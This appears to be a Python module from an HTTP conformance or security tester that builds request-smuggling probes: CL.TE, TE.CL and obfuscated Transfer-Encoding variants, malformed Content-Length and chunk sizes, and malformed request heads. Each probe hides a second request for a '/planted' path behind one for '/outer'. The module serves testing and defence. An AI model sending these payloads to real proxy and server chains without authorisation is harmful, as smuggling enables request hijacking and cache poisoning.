"""Probes for request smuggling: requests that two servers may parse differently, as bytes.

After James Kettle, "HTTP Desync Attacks" (2019), Amit Klein, "HTTP Request Smuggling in 2020", and RFC 9112, sections
2.2, 5, 6 and 7.1. Each probe is a request for `/outer` that contains another one for `/planted`: one parser sees
it as the body, another as a second request.
"""

from collections.abc import Iterator
from typing import Final, NamedTuple


class Probe(NamedTuple):
    """One request to send."""

    name: str
    mark: bytes
    """The text in the paths of this probe only."""
    data: bytes
    valid: bool
    """Whether the request is unambiguous: it must arrive as one request."""


_ZERO_BYTE: Final = "behind a zero byte"
_OLD_CHUNKS: Final = "chunks in HTTP/1.0"
FORBIDDEN_FORM: Final = frozenset({f"TE.TE: {_ZERO_BYTE}", _OLD_CHUNKS})
"""Probes whose syntax is forbidden, although no known server parses a second request from them.

RFC 9110, section 5.5: a zero byte in a field's value (HAProxy 2.6 passes it on, 3.0 refuses it; haproxy #2914);
RFC 9112, section 6.1: Transfer-Encoding in HTTP/1.0 (HAProxy passes it on, 3.4 too).
"""
_TE_LINES: Final = {
    "x before the coding": "Transfer-Encoding: xchunked",
    "space before the colon": "Transfer-Encoding : chunked",
    "tab before the coding": "Transfer-Encoding:\tchunked",
    "vertical tab before the coding": "Transfer-Encoding: \x0bchunked",
    "identity after": "Transfer-Encoding: chunked, identity",
    "identity before": "Transfer-Encoding: identity, chunked",
    "two lines": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "two lines, reversed": "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "folded line": "Transfer-Encoding:\r\n chunked",
    "line that begins with a space": "X-Fold: x\r\n Transfer-Encoding: chunked",
    "behind a bare line feed": "X-Feed: x\nTransfer-Encoding: chunked",
    "behind a bare carriage return": "X-Return: x\rTransfer-Encoding: chunked",
    _ZERO_BYTE: "X-Zero: x\x00Transfer-Encoding: chunked",
    "quoted": 'Transfer-Encoding: "chunked"',
    "underscore": "Transfer_Encoding: chunked",
}
_LENGTHS: Final = {
    "two that differ": "Content-Length: 5\r\nContent-Length: {full}",
    "two that agree": "Content-Length: 5\r\nContent-Length: 5",
    "a list": "Content-Length: 5, {full}",
    "a plus": "Content-Length: +5",
    "a minus": "Content-Length: -5",
    "hexadecimal": "Content-Length: 0x5",
    "two words": "Content-Length: 5 5",
    "empty": "Content-Length: ",
    "behind a bare line feed": "X-Feed: x\nContent-Length: 5",
    "more than 64 bits": "Content-Length: 18446744073709551621",
}
_CHUNKS: Final = {
    "0x": "0x5\r\nhello\r\n0\r\n\r\n",
    "plus": "+5\r\nhello\r\n0\r\n\r\n",
    "minus": "-5\r\nhello\r\n0\r\n\r\n",
    "space": "5 \r\nhello\r\n0\r\n\r\n",
    "more than 64 bits": "10000000000000005\r\nhello\r\n0\r\n\r\n",
    "bare line feeds": "5\nhello\n0\n\n",
    "bare line feed in an extension": "5;a\nhello\r\n0\r\n\r\n",
    "bare carriage return in an extension": "5;a\rb\r\nhello\r\n0\r\n\r\n",
    "longer than it says": "5\r\nhelloXX0\r\n\r\n",
    "no size": "\r\nhello\r\n0\r\n\r\n",
}


_HEADS: Final = {
    "bare line feeds": "POST {outer} HTTP/1.1\nHost: {host}\nContent-Length: 5\n\nhello",
    "two hosts": "GET {outer} HTTP/1.1\r\nHost: {host}\r\nHost: planted.example\r\n\r\n",
    "another host in the target": "GET http://planted.example{outer} HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a space in the target": "GET {outer} x HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a space in a name": "GET {outer} HTTP/1.1\r\nHost: {host}\r\nX y: z\r\n\r\n",
    "no name": "GET {outer} HTTP/1.1\r\nHost: {host}\r\n: z\r\n\r\n",
    "no colon": "GET {outer} HTTP/1.1\r\nHost: {host}\r\nplanted\r\n\r\n",
    _OLD_CHUNKS: ("POST {outer} HTTP/1.0\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"),
    "HTTP/0.9": "GET {outer}\r\n\r\n",
}
_VALID: Final = {
    "a request inside of a body": "Content-Length: {length}\r\n\r\n{inner}",
    "chunks": "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n{size}\r\n{inner}\r\n0\r\n\r\n",
    "chunk extension": "Transfer-Encoding: chunked\r\n\r\n5;name=value\r\nhello\r\n0\r\n\r\n",
}
_POST: Final = "POST {outer} HTTP/1.1\r\nHost: {host}\r\n"
_END_THEN_INNER: Final = "0\r\n\r\n{inner}"


def _templates() -> Iterator[tuple[str, str]]:
    """Yield names and templates with {outer}, {host}, {inner}, its {length} and {size}, and {full}: five bytes more."""
    yield "CL.TE", f"{_POST}Content-Length: {{full}}\r\nTransfer-Encoding: chunked\r\n\r\n{_END_THEN_INNER}"
    te_cl = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{size}\r\n{inner}\r\n0\r\n\r\n"
    yield "TE.CL", _POST + te_cl
    for name, lines in _TE_LINES.items():
        yield f"TE.TE: {name}", f"{_POST}Content-Length: {{full}}\r\n{lines}\r\n\r\n{_END_THEN_INNER}"
    for name, lines in _LENGTHS.items():
        yield f"Content-Length: {name}", f"{_POST}{lines}\r\n\r\nhello{{inner}}"
    for name, body in _CHUNKS.items():
        yield f"chunks: {name}", f"{_POST}Transfer-Encoding: chunked\r\n\r\n{body}"
    yield from _HEADS.items()


def probes(host: str, mark: str) -> Iterator[Probe]:
    """Yield every probe, in a fixed order."""
    plain = [(name, template, False) for name, template in _templates()]
    valid = [(name, _POST + template, True) for name, template in _VALID.items()]
    for number, (name, template, is_valid) in enumerate((*plain, *valid)):
        own = f"{mark}-{number}-"
        inner = f"GET /planted-{own} HTTP/1.1\r\nHost: {host}\r\n\r\n"
        length = len(inner)
        text = template.format(
            outer=f"/outer-{own}", host=host, inner=inner, length=length, size=f"{length:x}", full=length + 5
        )
        yield Probe(name, own.encode(), text.encode("latin-1"), is_valid)
